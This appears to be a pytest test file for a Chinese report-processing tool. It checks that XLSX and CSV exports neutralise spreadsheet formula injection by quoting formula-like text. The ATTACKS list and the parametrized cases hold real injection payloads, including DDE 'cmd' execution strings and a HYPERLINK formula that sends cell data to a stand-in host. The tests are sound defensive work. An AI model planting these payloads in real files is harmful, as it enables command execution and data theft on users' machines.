"""Exports never hand a spreadsheet a live formula: report text that looks like one stays text."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from typer.testing import CliRunner

from hostile import GOOD_REPORT
from jixiao.cli import app
from jixiao.review.spreadsheet import formula_like, safe_cell

runner = CliRunner()

ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def hostile_store(tmp_path: Path) -> Path:
    """A store made by `jixiao run` from a report whose title and fund open with formulas."""
    text = GOOD_REPORT.read_text(encoding="utf-8")
    text = text.replace("某县2024年度就业补助资金绩效自评报告", f"{ATTACKS[0]}某县2024年度就业补助资金绩效自评报告")
    text = text.replace("城镇新增就业人数", f"{ATTACKS[2]}人数")  # an indicator name
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "evil.txt").write_text(text, encoding="utf-8")
    result = runner.invoke(app, ["run", str(folder), "--db", str(tmp_path / "j.db")])
    assert result.exit_code == 0, result.output
    return tmp_path / "j.db"


def test_xlsx_stores_formula_like_text_as_quoted_strings(hostile_store: Path, tmp_path: Path) -> None:
    target = tmp_path / "results.xlsx"
    assert runner.invoke(app, ["export", "--db", str(hostile_store), "--to", str(target)]).exit_code == 0
    sheet = load_workbook(target)["报告"]
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("标题") + 1)
    assert title.data_type == "s"
    assert title.value == f"'{ATTACKS[0]}某县2024年度就业补助资金绩效自评报告"
    indicators = load_workbook(target)["绩效指标"]
    names = [
        row[0] for row in indicators.iter_rows(min_row=2, values_only=True, min_col=_column(indicators, "三级指标"))
    ]
    assert f"'{ATTACKS[2]}人数" in names
    budget = sheet.cell(row=2, column=header.index("预算数（万元）") + 1)
    assert budget.data_type == "n" and budget.value == 150.0  # numbers stay numbers
    formulas = [cell.coordinate for row in load_workbook(target).worksheets for r in row.iter_rows() for cell in r
                if cell.data_type == "f"]  # fmt: skip
    assert formulas == []


def _column(sheet: Worksheet, header: str) -> int:
    return [cell.value for cell in next(sheet.iter_rows(max_row=1))].index(header) + 1


def test_csv_fields_never_start_with_a_formula_trigger(hostile_store: Path, tmp_path: Path) -> None:
    target = tmp_path / "results.csv"
    assert runner.invoke(app, ["export", "--db", str(hostile_store), "--to", str(target)]).exit_code == 0
    with (tmp_path / "results_reports.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["标题"] == f"'{ATTACKS[0]}某县2024年度就业补助资金绩效自评报告"
    with (tmp_path / "results_indicators.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert f"'{ATTACKS[2]}人数" in [row["三级指标"] for row in csv.DictReader(handle)]
    for path in tmp_path.glob("results_*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                assert not any(formula_like(field) for field in row), (path.name, row)


@pytest.mark.parametrize(
    "text", [*ATTACKS, "+1+cmd|' /C calc'!A0", "-2+3", "＝1+1", "\t=1+1", "\r=1+1", "  =1+1", "\u3000=1+1"]
)
def test_every_formula_trigger_is_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["95%", "中央财政资金", "≥95%", "1,298.17万元", "", 150.0, -3, None])
def test_ordinary_values_pass_unchanged(value: object) -> None:
    assert safe_cell(value) == value  # type: ignore[arg-type]
